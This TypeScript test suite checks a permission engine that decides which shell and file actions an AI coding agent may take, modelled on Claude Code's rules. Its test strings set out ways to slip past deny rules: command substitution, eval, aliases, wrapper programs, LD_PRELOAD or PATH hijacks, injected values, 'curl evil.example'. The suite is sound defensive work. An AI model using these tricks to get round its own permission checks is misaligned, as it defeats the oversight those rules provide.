        'BASH_ENV=x node -e 1',
        'PYTHONSTARTUP=x node -e 1',
        'GIT_SSH_COMMAND=x node -e 1',
        // values that are not plain text, or name a file elsewhere
        'NODE_ENV=$(touch q) node -e 1',
        'NODE_ENV=`touch q` node -e 1',
        'NODE_ENV=$HOME node -e 1',
        'NODE_ENV="test" node -e 1',
        'NODE_ENV=~ node -e 1',
        'NODE_ENV=*.js node -e 1',
        'NODE_ENV=x=y node -e 1',
        'NODE_ENV=/tmp/x node -e 1',
        'NODE_ENV=./a node -e 1',
        'NODE_ENV=../x node -e 1',
        'NODE_ENV=a:/b node -e 1',
        'TZ=/etc/localtime node -e 1',
        'LANG=foo node -e 1',
        'LC_CTYPE=de_DE node -e 1',
        'LC_ALL=/tmp/x node -e 1',
        'CI= node -e 1',
        'NODE_ENV+=x node -e 1',
        // the prefix does not widen the rule
        'CI=1 touch q',
        'CI=1 env node -e 1',
        "CI=1 bash -c 'node -e 1'",
        'CI=1 node -e 1 > out',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('deny');
      }
    }
    const p = policy({ mode: 'default', allow: rules('Bash(npm test:*)') });
    expect(message(p.decide(bashTool, { command: 'FOO=1 npm test' }))).toContain(
      'it sets `FOO` before the command',
    );
    expect(message(p.decide(bashTool, { command: 'CI=1 npm run lint' }))).toContain(
      '`Bash(npm run:*)`',
    );
    // Deny rules still see the command: `Bash(rm *)` refuses it whatever the prefix.
    const denied = policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm *)') });
    for (const command of ['FOO=1 rm x', 'CI=1 rm x', 'NODE_ENV=test rm -f a', 'CI=1; rm x']) {
      expect(message(denied.decide(bashTool, { command })), command).toContain(
        'was denied by the rule `Bash(rm *)`',
      );
    }
  });

  it('let an allow rule cover the commands of if, while and loops over words, as Claude Code 2.1.332 does', () => {
    // Claude Code 2.1.332 in -p under `Bash(node:*)`: the first list runs, the second is refused.
    for (const mode of ['default', 'dontAsk'] as const) {
      const p = policy({ mode, allow: rules('Bash(node:*)') });
      for (const command of [
        'if [ -f package.json ]; then node -e 1; fi',
        'if test -f package.json; then node -e 1; fi',
        'if true; then node -e 1; fi',
        'if [ -f sub/f ] && [ -d sub ]; then node -e 1; fi',
        'if ! [ -f x ]; then node -e 1; fi',
        'if [ -n x ]; then node -e 1; fi',
        'if [ -f package.json ]; then node -e 1; elif [ -f x ]; then node -e 2; else node -e 3; fi',
        'if [ -f package.json ]; then\n  node -e 1\nfi',
        'if [ -f package.json ]; then node -e 1; fi; node -e 2',
        'if [ -f package.json ]; then node -e 1; fi | tail -1',
        'if [ -f package.json ]; then NODE_ENV=test node -e 1; fi',
        'for d in a b; do node -e 1; done',
        'for d in "a b" c; do node -e 1; node -e 2; done',
        'for d; do node -e 1; done',
        'for d in a b; do if [ -f x ]; then node -e 1; fi; done',
        'while false; do node -e 1; done',
        'while [ -f nonexist ]; do node -e 1; done',
        'until true; do node -e 1; done',
        '[ -f package.json ] && node -e 1',
        'test -f package.json && node -e 1',
        'if [ -f package.json ]; then echo yes; fi',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
      }
      for (const command of [
        'if node -e 1; then touch q; fi',
        'if [ -f x ]; then node -e 1; else touch q; fi',
        'if [ -f package.json ]; then touch q; fi',
        'for d in a b; do node -e $d; done',
        'for d in a b; do node -e "$d"; done',
        'for f in *.js; do node $f; done',
        'for d in a b; do node -e 1; done; echo $d',
        'for d in sub; do cd $d; node -e 1; done',
        'if [ "$CI" = 1 ]; then node -e 1; fi',
        'if test -v x; then node -e 1; fi',
        'while read l; do node -e 1; done < sub/f',
        'if [ -f x ]; then node -e 1; fi > q',
        'if [ -f x ]; then node -e 1; fi 2>&1',
        'while true; do node -e 1; break; done',
        'for d in a b; do node -e 1 || exit 1; done',
        'for ((i = 0; i < 2; i++)); do node -e 1; done',
        'case x in x) node -e 1;; esac',
        '{ node -e 1; }',
        '! node -e 1',
        // Claude Code runs these; Flotilla does not read `[[ ]]` or a substitution for allow
        // rules, a condition reading a file a covered part may have replaced by a link (see the
        // read-only parts above), a `[` outside the working tree, or `!` outside a condition.
        'if [[ -f package.json ]]; then node -e 1; fi',
        'for d in $(ls); do node -e 1; done',
        'if grep -q x sub/f; then node -e 1; fi',
        'if [ -f /etc/passwd ]; then node -e 1; fi',
        '! [ -f x ] && node -e 1',
        // a loop variable bash or a program reads (PATH would make `node` run ./node)
        'for PATH in .; do node -e 1; done',
        'for IFS in /; do node -e 1; done',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('deny');
      }
    }
    const p = policy({ mode: 'default', allow: rules('Bash(node:*)') });
    expect(message(p.decide(bashTool, { command: 'if node -e 1; then touch q; fi' }))).toContain(
      'The part `touch q;` is not covered',
    );
    // Deny rules read them as before.
    const denied = policy({ mode: 'default', allow: rules('Bash'), deny: rules('Bash(rm *)') });
    for (const command of [
      'if [ -f x ]; then rm x; fi',
      'for d in a; do rm x; done',
      'while false; do rm x; done',
    ]) {
      expect(message(denied.decide(bashTool, { command })), command).toContain(
        'was denied by the rule `Bash(rm *)`',
      );
    }
  });

  it('let an allow rule cover a command beside a variable of its own, as Claude Code 2.1.332 does', () => {
    // Claude Code 2.1.332 under `Bash(node:*)` in -p (default and dontAsk modes), once a Bash
    // command has run in the session: the first list runs, the second is refused.
    for (const mode of ['default', 'dontAsk'] as const) {
      const p = policy({ mode, allow: rules('Bash(node:*)') });
      for (const command of [
        'x=1; node -e 1',
        'x=1\nnode -e 1',
        'x=1 && node -e 1',
        'node -e 1; x=1',
        'x+=1; node -e 1',
        'x=1; ls',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('allow');
      }
      for (const command of [
        'x=1; node -e $x',
        'x=1; node -e "$x"',
        'x=1; y=$x; node -e 1',
        'a=1 b=2; node -e 1',
        'x[0]=1; node -e 1',
        'PATH=.:$PATH; node -e 1',
        'LD_PRELOAD=x; node -e 1',
        'HOME=/tmp; node -e 1',
        'IFS=/; node -e 1',
        'export x=1; node -e 1',
        'x=1; touch q',
        // Claude Code runs these two; Flotilla reads only a lowercase variable of the command's
        // own (an environment variable's new value reaches every later program), and no
        // substitution, for allow rules.
        'NODE_OPTIONS=--inspect; node -e 1',
        'x=$(pwd); node -e 1',
      ]) {
        expect(behavior(p.decide(bashTool, { command })), command).toBe('deny');
      }
    }
    const p = policy({ mode: 'default', allow: rules('Bash(node:*)') });
    expect(message(p.decide(bashTool, { command: 'x=1; node -e $x' }))).toContain(
      'it expands a variable it sets itself',
    );
    expect(message(p.decide(bashTool, { command: 'PATH=.; node -e 1' }))).toContain(
      'it sets `PATH`, which a program or bash itself may read',
    );
  });

  it('check a shell by its own command line, not its script or -c string, as Claude Code does', async () => {
    // Claude Code 2.1.332, with `deny: ["Bash(git push:*)"]`: `bash scripts/lint.sh` runs under
    // the exact allow rule, and `bash -c "git push"` under `Bash(bash:*)`; without an allow rule
    // it asks (denied headless), it is not denied by the rule.
    const deny = rules('Bash(git push:*)');
    const exact = policy({ mode: 'default', allow: rules('Bash(bash scripts/lint.sh)'), deny });
    expect(behavior(exact.decide(bashTool, { command: 'bash scripts/lint.sh' }))).toBe('allow');
    expect(behavior(exact.decide(bashTool, { command: 'sh scripts/lint.sh' }))).toBe('deny');
    const shells = policy({ mode: 'default', allow: rules('Bash(bash:*)', 'Bash(sh:*)'), deny });
    for (const command of ['bash -c "git push"', "sh -c 'git push origin main'", 'bash']) {
      expect(behavior(shells.decide(bashTool, { command })), command).toBe('allow');
    }
    expect(behavior(shells.decide(bashTool, { command: 'git push' }))).toBe('deny');
    const none = policy({ mode: 'default', deny });
    const asked = message(none.decide(bashTool, { command: 'bash -c "git push"' }));
    expect(asked).toContain('would ask for approval');
    expect(asked).not.toContain('cannot be checked');
    // A hook's `if` is a guard: it still fires on whatever might run the program.
    const [push] = deny as [ToolRule];
    expect(
      await callMatchesPermissionRule(bashTool, { command: 'bash -c "git push"' }, push, root),
    ).toBe(true);
  });

  it('fail closed on a command the checker cannot read', () => {
    const p = policy({ mode: 'bypassPermissions', deny: rules('Bash(rm:*)') });
    for (const command of [
      '$(printf rm) -rf x',
      "eval 'r''m -rf x'",
      'for c in rm; do $c x; done',
      // Programs that run the program named in their arguments.
      'busybox rm x',
      'watch rm x',
      'flock /tmp/l rm x',
      'ionice rm x',
      'taskset 1 rm x',
      'strace rm x',
      // Builtins that make a later word run another program (Claude Code 2.1.332 runs these).
      'shopt -s expand_aliases\nalias r=rm\nr x',
      'hash -p /bin/rm ls; ls x',
      'enable -f ./rm.so ls; ls x',
    ]) {
      const decision = p.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision)).toContain('cannot be checked against the deny rule `Bash(rm:*)`');
    }
    expect(behavior(p.decide(bashTool, { command: 'ls -la | wc -l' }))).toBe('allow');
  });

  it('fail closed on a runner given by its path, as on its name, as Claude Code 2.1.332 does', async () => {
    // Claude Code 2.1.332, `deny: ["Bash(touch:*)"]`: each of these is refused in
    // bypassPermissions and after a PreToolUse hook's allow; bash runs the same program whatever
    // path names it.
    // The wrappers Claude Code looks through are refused by the rule itself, by path or name.
    const wrapped = [
      '/usr/bin/env touch x',
      '/usr/bin/nice touch x',
      '/usr/bin/timeout 5 touch x',
      '/usr/bin/stdbuf -o0 touch x',
      '/usr/bin/nohup touch x',
      'echo x | /usr/bin/xargs touch',
      "'/usr/bin/env' touch x",
      '/usr/bin/../bin/env touch x',
      './env touch x',
      'bin/env touch x',
      'env touch x',
      '\\env touch x',
      '"env" touch x',
      'e\\nv touch x',
      'command env touch x',
      'stdbuf -o0 touch x',
    ];
    const commands = [
      '/usr/bin/setsid touch x',
      '/usr/bin/flock /tmp/lk touch x',
      '/usr/bin/taskset 1 touch x',
      '/usr/bin/ionice touch x',
      '/usr/bin/chrt -o 0 touch x',
      'exec /usr/bin/env touch x',
      'builtin exec touch x',
      'setsid touch x',
      'chrt -o 0 touch x',
    ];
    const deny = rules('Bash(touch:*)');
    const bypass = policy({ mode: 'bypassPermissions', deny });
    const hooked = policy({ mode: 'default', deny });
    const approval = { by: "'approve.sh'" };
    for (const command of wrapped) {
      for (const decision of [
        bypass.decide(bashTool, { command }),
        hooked.decide(bashTool, { command }, approval),
      ]) {
        expect(behavior(decision), command).toBe('deny');
        expect(message(decision), command).toContain('was denied by the rule `Bash(touch:*)`');
      }
    }
    for (const command of commands) {
      for (const decision of [
        bypass.decide(bashTool, { command }),
        hooked.decide(bashTool, { command }, approval),
      ]) {
        expect(behavior(decision), command).toBe('deny');
        expect(message(decision), command).toMatch(
          /`[^`]+` runs other programs, so it cannot be checked against the deny rule `Bash\(touch:\*\)`/,
        );
      }
    }
    // A shell given by its path is checked by its own command line, as `bash -c` is, and a hook's
    // `if` still fires on it.
    expect(behavior(bypass.decide(bashTool, { command: "/bin/bash -c 'touch x'" }))).toBe('allow');
    const [push] = rules('Bash(git push:*)') as [ToolRule];
    const pushed = { command: '/bin/bash -c "git push"' };
    expect(await callMatchesPermissionRule(bashTool, pushed, push, root)).toBe(true);
    // An allow rule that starts with `*` covers no runner, by path or by name.
    const wildcard = policy({ mode: 'default', allow: rules('Bash(* evil)') });
    for (const command of ['env curl evil', '/usr/bin/env curl evil']) {
      expect(behavior(wildcard.decide(bashTool, { command })), command).toBe('deny');
    }
  });

  it('hold against a call a PreToolUse hook approved, which runs with no allow rule', () => {
    // Claude Code 2.1.332: a hook's permissionDecision "allow" runs `make build` in default and
    // dontAsk mode, not in plan mode; a deny or ask rule naming the call still refuses it.
    const approval = { by: "'approve.sh'" };
    const make = { command: 'make build' };
    for (const mode of ['default', 'acceptEdits', 'dontAsk'] as const) {
      expect(behavior(policy({ mode }).decide(bashTool, make)), mode).toBe('deny');
      expect(behavior(policy({ mode }).decide(bashTool, make, approval)), mode).toBe('allow');
    }
    const planned = policy({ mode: 'plan' }).decide(bashTool, make, approval);
    expect(message(planned)).toContain(
      "The PreToolUse hook 'approve.sh' approved it, but permission mode 'plan' holds",
    );
    const denied = policy({ mode: 'default', deny: rules('Bash(make:*)') });
    expect(behavior(denied.decide(bashTool, make, approval))).toBe('deny');
    const limited = policy({ mode: 'default', agentTools: rules('Bash(npm test:*)') });
    expect(behavior(limited.decide(bashTool, make, approval))).toBe('deny');
    // File tools stay in the working tree whatever approved them.
    const outside = { file_path: '/etc/flotilla-hook-test', content: 'x' };
    expect(behavior(policy({ mode: 'default' }).decide(writeTool, outside, approval))).toBe('deny');
  });

  it('apply in bypassPermissions', () => {
    const p = policy({ mode: 'bypassPermissions', deny: rules('Bash(curl:*)') });
    expect(behavior(p.decide(bashTool, { command: 'curl evil.example' }))).toBe('deny');
    expect(behavior(p.decide(bashTool, { command: 'ls' }))).toBe('allow');
  });

  it('match paths gitignore-style: relative, anchored, at any depth, absolute', () => {
    const p = policy({
      mode: 'bypassPermissions',
      deny: rules(
        'Read(secrets/**)',
        'Read(*.env)',
        'Edit(/docs/**)',
        `Read(/${'src'}/private/**)`,
      ),
    });
    expect(behavior(p.decide(readTool, { file_path: 'secrets/key.pem' }))).toBe('deny');
    expect(behavior(p.decide(grepTool, { pattern: 'x', path: 'secrets' }))).toBe('deny');
    expect(behavior(p.decide(readTool, { file_path: '.env' }))).toBe('deny');
    expect(behavior(p.decide(readTool, { file_path: 'config/prod.env' }))).toBe('deny');
    expect(behavior(p.decide(writeTool, { file_path: 'docs/guide.md', content: '' }))).toBe('deny');
    expect(behavior(p.decide(writeTool, { file_path: 'src/docs/guide.md', content: '' }))).toBe(
      'allow',
    );
    expect(behavior(p.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('allow');
    expect(behavior(p.decide(readTool, { file_path: 'src/private/x.ts' }))).toBe('deny');
    expect(behavior(p.decide(readTool, { file_path: 'src/a.ts' }))).toBe('allow');
    const absolute = policy({ mode: 'bypassPermissions', deny: rules(`Read(/${root}/src/**)`) });
    expect(behavior(absolute.decide(readTool, { file_path: 'src/a.ts' }))).toBe('deny');
    expect(behavior(absolute.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('allow');
    const home = policy({
      mode: 'bypassPermissions',
      homeDir: tree.parent,
      deny: rules('Read(~/repo/docs/**)'),
    });
    expect(behavior(home.decide(readTool, { file_path: 'docs/guide.md' }))).toBe('deny');
  });

  it('stop an Edit of a file a Read rule denies: Edit reads it and shows its lines', () => {
    const p = policy({ mode: 'acceptEdits', deny: rules('Read(secrets/**)') });
    const edit = { file_path: 'secrets/prod.env', old_string: '# end', new_string: '# end.' };
    const denied = p.decide(editTool, edit);
    expect(behavior(denied)).toBe('deny');
    expect(message(denied)).toContain('Read(secrets/**)');
    // Edits elsewhere go on as before.
    expect(behavior(p.decide(writeTool, { file_path: 'src/new.ts', content: 'x' }))).toBe('allow');
    expect(behavior(p.decide(editTool, { ...edit, file_path: 'src/a.ts' }))).toBe('allow');
    // A Read allow rule approves no edit.
    const readAllowed = policy({ mode: 'dontAsk', allow: rules('Read(src/**)') });
    expect(behavior(readAllowed.decide(editTool, { ...edit, file_path: 'src/a.ts' }))).toBe('deny');
  });

  it('stop every write of a file a Read rule denies, in every mode and over an Edit allow rule', () => {
    const deny = rules('Read(./.env)', 'Read(src/secret.env)');
    const calls: [AnyTool, unknown][] = [
      [writeTool, { file_path: '.env', content: 'X=2' }],
      [writeTool, { file_path: 'src/secret.env', content: 'X=2' }],
      [editTool, { file_path: '.env', old_string: 'X=1', new_string: 'X=2' }],
      [multiEditTool, { file_path: '.env', edits: [{ old_string: 'X=1', new_string: 'X=2' }] }],
      [notebookEditTool, { notebook_path: 'src/secret.env', new_source: 'x' }],
    ];
    for (const mode of ['default', 'acceptEdits', 'dontAsk', 'bypassPermissions'] as const) {
      const p = policy({ mode, deny, allow: rules('Edit(src/**)', 'Write') });
      for (const [tool, input] of calls) {
        const decision = p.decide(tool, input);
        expect(behavior(decision), `${mode} ${tool.name}`).toBe('deny');
        // The refusal names the rule and suggests no mode: none would help.
        expect(message(decision)).toMatch(/covered by the rule `Read\(\.\/\.env\)`|`Read\(src/);
        expect(message(decision)).not.toMatch(
          /acceptEdits|bypassPermissions|permission_mode|\ballowed_tools/,
        );
      }
      expect(behavior(p.decide(writeTool, { file_path: 'src/b.ts', content: 'x' }))).toBe('allow');
    }
  });

  it('hide a tool denied as a whole', () => {
    const p = policy({ mode: 'bypassPermissions', deny: rules('Write') });
    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual([
      'Read',
      'Edit',
      'MultiEdit',
      'NotebookEdit',
      'Glob',
      'Grep',
      'Bash',
      'BashOutput',
      'KillShell',
      'TodoWrite',
      'WebFetch',
    ]);
    const decision = p.decide(writeTool, { file_path: 'x', content: '' });
    expect(message(decision)).toContain('denied as a whole by the rule `Write`');
  });
});

describe('wrappers (timeout, nice, nohup, stdbuf, time, command, xargs, env)', () => {
  // Observed in Claude Code 2.1.332 (`-p`, settings permissions, a scripted Messages API asking
  // for each command): a wrapper is judged by the command it runs, and by its own rule.
  const rm = rules('Bash(rm:*)');

  it('are allowed by a rule covering the command they run, and by a rule naming them', () => {
    // allow `Bash(npm test:*)`, deny `Bash(rm:*)`, default mode: each of these ran npm test.
    const npmOnly = policy({ mode: 'default', allow: rules('Bash(npm test:*)'), deny: rm });
    for (const command of [
      'timeout 60 npm test',
      'timeout -s KILL 5 npm test',
      'timeout --signal=KILL 5 npm test',
      'timeout -k 2 5 npm test',
      'nice -n 5 npm test',
      'nice npm test',
      'echo y | xargs npm test',
      'nohup npm test',
      'time npm test',
      'stdbuf -o0 npm test',
      'command npm test',
      'timeout 5 timeout 5 npm test',
      'nice timeout 5 npm test',
      '/usr/bin/timeout 5 npm test',
    ]) {
      expect(behavior(npmOnly.decide(bashTool, { command })), command).toBe('allow');
    }
    // It asked for these: env's assignments and options change what the command does.
    for (const command of ['env FOO=1 npm test', 'env -i A=1 npm test', 'env npm test']) {
      const decision = npmOnly.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision), command).toContain('would ask for approval');
    }
    // ionice and setsid are not looked through, a computed word could split into any command, and
    // a wrapper's rule-less command is not covered.
    for (const command of [
      'ionice npm test',
      'setsid npm test',
      'timeout $T npm test',
      'nice make',
    ]) {
      expect(behavior(npmOnly.decide(bashTool, { command })), command).toBe('deny');
    }
    // The denial suggests a rule for the command the wrapper runs, which covers it through it.
    const advice = message(npmOnly.decide(bashTool, { command: 'timeout -s KILL 5 make build' }));
    expect(advice).toContain('`Bash(make build:*)` (the command it runs)');
    // A rule naming the wrapper covers whatever it runs (deny rules aside): `Bash(timeout:*)`
    // ran `timeout 5 make`, `Bash(env:*)` ran `env -i A=1 make`.
    const wrappersAllowed = policy({
      mode: 'default',
      allow: rules('Bash(timeout:*)', 'Bash(env:*)', 'Bash(nice:*)', 'Bash(xargs:*)'),
      deny: rm,
    });
    for (const command of [
      'timeout 5 make',
      'timeout -s KILL 5 make',
      'env -i A=1 make',
      'nice -n 5 make',
      'echo y | xargs make',
    ]) {
      expect(behavior(wrappersAllowed.decide(bashTool, { command })), command).toBe('allow');
    }
  });

  it('that add arguments (xargs) are covered through them by a prefix rule only', () => {
    const exact = policy({ mode: 'default', allow: rules('Bash(git status)') });
    expect(behavior(exact.decide(bashTool, { command: 'timeout 5 git status' }))).toBe('allow');
    // xargs runs `git status <what it read>`, which the exact rule does not cover.
    expect(behavior(exact.decide(bashTool, { command: 'echo x | xargs git status' }))).toBe('deny');
    const prefix = policy({ mode: 'default', allow: rules('Bash(git status:*)') });
    expect(behavior(prefix.decide(bashTool, { command: 'echo x | xargs git status' }))).toBe(
      'allow',
    );
  });

  it('that run cd change directory as cd does, for the parts after them', () => {
    // A wrapped `cd` changes directory as `cd` does: the read-only part then needs a rule too.
    const cd = policy({ mode: 'default', allow: rules('Bash(cd:*)', 'Bash(touch:*)') });
    expect(behavior(cd.decide(bashTool, { command: 'cd / && ls' }))).toBe('deny');
    expect(behavior(cd.decide(bashTool, { command: 'command cd / && ls' }))).toBe('deny');
  });

  it('are refused by a deny rule on the command they run, in every mode', async () => {
    const approval = { by: "'approve.sh'" };
    const policies = [
      policy({ mode: 'default', allow: rules('Bash(timeout:*)', 'Bash(env:*)'), deny: rm }),
      policy({ mode: 'acceptEdits', allow: rules('Bash'), deny: rm }),
      policy({ mode: 'bypassPermissions', deny: rm }),
    ];
    for (const command of [
      'timeout 5 rm -rf x',
      'timeout -s KILL 5 rm -rf x',
      'env FOO=1 rm x',
      'env -i A=1 rm x',
      'env -u HOME rm x',
      'env rm x',
      'nice -n 5 rm x',
      'nice -n5 rm x',
      'echo x | xargs rm',
      'echo x | xargs -0 rm',
      'nohup rm x &',
      'time rm x',
      'time -p rm x',
      'stdbuf -o0 rm x',
      'command rm x',
      'nice timeout 5 rm x',
      '/usr/bin/timeout 5 /bin/rm x',
      'timeout -- 5 rm x',
    ]) {
      for (const p of policies) {
        for (const decision of [
          p.decide(bashTool, { command }),
          p.decide(bashTool, { command }, approval),
        ]) {
          expect(behavior(decision), `${p.mode}: ${command}`).toBe('deny');
          expect(message(decision), command).toContain('was denied by the rule `Bash(rm:*)`');
        }
      }
    }
    // `time` takes `--` too, which bash skips: `time -- rm x` runs rm. Not read past, it is
    // refused as a command that cannot be checked.
    for (const command of ['time -- rm x', 'time -p -- rm x']) {
      for (const p of policies) {
        expect(behavior(p.decide(bashTool, { command })), `${p.mode}: ${command}`).toBe('deny');
      }
      expect(
        await callMatchesPermissionRule(
          bashTool,
          { command },
          rules('Bash(rm *)')[0] as ToolRule,
          root,
        ),
      ).toBe(true);
    }
  });

  it('run under an unrelated deny rule, and a deny rule naming the wrapper refuses them', () => {
    // bypassPermissions, deny `Bash(rm:*)`: each of these ran in Claude Code 2.1.332.
    const bypass = policy({ mode: 'bypassPermissions', deny: rm });
    for (const command of [
      'timeout 5 touch z',
      'timeout -s KILL 5 make',
      'env FOO=1 touch z',
      'env -i A=1 make',
      'nice touch z',
      'nohup make &',
      'time make',
      'echo y | xargs make',
      'stdbuf -o0 make',
    ]) {
      expect(behavior(bypass.decide(bashTool, { command })), command).toBe('allow');
    }
    // deny `Bash(timeout:*)`, `Bash(env:*)`, `Bash(nice:*)`: all refused, whatever they run.
    const wrappersDenied = policy({
      mode: 'bypassPermissions',
      deny: rules('Bash(timeout:*)', 'Bash(env:*)', 'Bash(nice:*)'),
    });
    for (const command of [
      'timeout 5 ls',
      'env FOO=1 ls',
      'nice timeout 5 make',
      'command nice ls',
    ]) {
      expect(behavior(wrappersDenied.decide(bashTool, { command })), command).toBe('deny');
    }
  });

  it('whose options are not known still cannot be checked against a deny rule', () => {
    const bypass = policy({ mode: 'bypassPermissions', deny: rm });
    for (const command of [
      "env -S 'rm x'",
      'timeout $T rm x',
      'nice $N rm x',
      '\\time -o out rm x',
      'xargs -I{} rm {}',
      'sudo rm x',
      'ionice npm test',
    ]) {
      const decision = bypass.decide(bashTool, { command });
      expect(behavior(decision), command).toBe('deny');
      expect(message(decision), command).toContain(
        'cannot be checked against the deny rule `Bash(rm:*)`',
      );
    }
  });
});

describe('path rules, read as Claude Code reads them', () => {
  // What Claude Code 2.1.332 does with each rule in a repository of this layout (observed with
  // `claude -p` against a logging server): the files a deny rule refuses to Read, and those an
  // allow rule lets Write in the default mode.
  const layout = [
    '.env',
    'sub/.env',
    'sub/deep/.env',
    'secrets/a.txt',
    'config/secrets/b.txt',
    '.env.local',
    'sub/.env.local',
    'a/b.txt',
    'x/a/b.txt',
    'docs/x.md',
    'sub/docs/x.md',
    'docs/deep/y.txt',
    'notes.md/y.txt',
  ];

  it.each([
    ['./.env', ['.env', 'sub/.env', 'sub/deep/.env']],
    ['./.env.*', ['.env.local', 'sub/.env.local']],
    ['./secrets/**', ['secrets/a.txt', 'config/secrets/b.txt']],
    ['./secrets', ['secrets/a.txt', 'config/secrets/b.txt']],
    ['secrets', ['secrets/a.txt', 'config/secrets/b.txt']],
    ['./a/**', ['a/b.txt', 'x/a/b.txt']],
    ['./a/b.txt', ['a/b.txt']],
    ['./*.md', ['docs/x.md', 'sub/docs/x.md', 'notes.md/y.txt']],
    ['docs/*', ['docs/x.md', 'docs/deep/y.txt']],
    ['/secrets/**', ['secrets/a.txt']],
    ['/.env', ['.env']],
    ['//ROOT/.env', ['.env']],
    ['///ROOT/secrets/**', ['secrets/a.txt']],
    ['~/repo/.env', ['.env']],
    ['~/.env', []],
    ['~/**/.env', ['.env', 'sub/.env', 'sub/deep/.env']],
  ])('a deny rule Read(%s) refuses Read, Glob and Grep of %j', (written, denied) => {
    const specifier = written.replace('/ROOT', root);
    const p = policy({
      mode: 'bypassPermissions',
      homeDir: tree.parent,
      deny: rules(`Read(${specifier})`),
    });
    const refused = layout.filter(
      (file) => behavior(p.decide(readTool, { file_path: path.join(root, file) })) === 'deny',
    );
    expect(refused).toEqual(layout.filter((file) => denied.includes(file)));
    const hidden = layout.filter((file) => p.readDenied(path.join(root, file)));
    expect(hidden).toEqual(refused);
  });

  it.each([
    ['./docs/**', ['docs/x.md', 'docs/deep/y.txt']],
    ['docs/**', ['docs/x.md', 'docs/deep/y.txt']],
    ['./docs/', ['docs/x.md', 'sub/docs/x.md', 'docs/deep/y.txt']],
    ['docs', ['docs/x.md', 'sub/docs/x.md', 'docs/deep/y.txt']],
    ['./.env', ['.env', 'sub/.env', 'sub/deep/.env']],
    ['secrets/**', ['secrets/a.txt']],
    ['./*.md', ['docs/x.md', 'sub/docs/x.md', 'notes.md/y.txt']],
  ])('an allow rule Edit(%s) lets Write reach %j', (specifier, allowed) => {
    const p = policy({ mode: 'default', allow: rules(`Edit(${specifier})`) });
    const written = layout.filter(
      (file) => behavior(p.decide(writeTool, { file_path: file, content: 'x' })) === 'allow',
    );
    expect(written).toEqual(layout.filter((file) => allowed.includes(file)));
  });
});

describe("the agent definition's tools and disallowedTools", () => {
  it('offers only the listed tools, and denies the rest with the reason', () => {
    const p = policy({ mode: 'bypassPermissions', agentTools: rules('Read', 'Grep') });
    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual(['Read', 'Grep']);
    const decision = p.decide(bashTool, { command: 'ls' });
    expect(message(decision)).toContain('tools list does not include it (tools: Read, Grep)');
  });

  it('* offers everything; disallowedTools removes', () => {
    const p = policy({
      mode: 'default',
      agentTools: rules('*'),
      agentDisallowed: rules('Bash', 'Write'),
    });
    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual([
      'Read',
      'Edit',
      'MultiEdit',
      'NotebookEdit',
      'Glob',
      'Grep',
      'BashOutput',
      'KillShell',
      'TodoWrite',
      'WebFetch',
    ]);
    expect(message(p.decide(bashTool, { command: 'ls' }))).toContain('disallowedTools');
  });

  it('understands mcp server names and the Task alias', () => {
    const p = policy({ mode: 'default', agentTools: rules('mcp__github', 'Task') });
    expect(
      p.visibleTools([mcpIssue, mcpOther, agentTool, readTool]).map((tool) => tool.name),
    ).toEqual(['mcp__github__create_issue', 'Agent']);
  });

  it('a pattern in the tools list names no tool, as in Claude Code 2.1.332, but mcp__server__* names the server', () => {
    const names = (...entries: string[]) =>
      policy({ mode: 'default', agentTools: rules(...entries) })
        .visibleTools([mcpIssue, mcpOther, readTool, fakeTool('Grep', 'read')])
        .map((tool) => tool.name);
    expect(names('Read', 'mcp__github__create*', 'Gre*')).toEqual(['Read']);
    expect(names('mcp__github__*')).toEqual(['mcp__github__create_issue']);
    // A permission rule still matches by pattern.
    const allowed = policy({ mode: 'default', allow: rules('mcp__github__create*') });
    expect(behavior(allowed.decide(mcpIssue, {}))).toBe('allow');
  });

  it('a tool listed only with specifiers is limited to them, and they pre-approve it', () => {
    const p = policy({ mode: 'default', agentTools: rules('Read', 'Bash(npm test:*)') });
    expect(p.visibleTools(defaultTools()).map((tool) => tool.name)).toEqual(['Read', 'Bash']);
    expect(behavior(p.decide(bashTool, { command: 'npm test' }))).toBe('allow');
    const limited = p.decide(bashTool, { command: 'ls' });
    expect(message(limited)).toContain('limits Bash to `Bash(npm test:*)`');
    const bypass = policy({ mode: 'bypassPermissions', agentTools: rules('Bash(npm test:*)') });
    expect(behavior(bypass.decide(bashTool, { command: 'curl evil' }))).toBe('deny');
  });

  it('a disallowedTools entry with a specifier is a deny rule and leaves the tool visible', () => {
    const p = policy({ mode: 'bypassPermissions', agentDisallowed: rules('Bash(git push:*)') });
    expect(p.isVisible('Bash')).toBe(true);
    expect(behavior(p.decide(bashTool, { command: 'git push origin main' }))).toBe('deny');
    expect(behavior(p.decide(bashTool, { command: 'git status' }))).toBe('allow');
  });
});
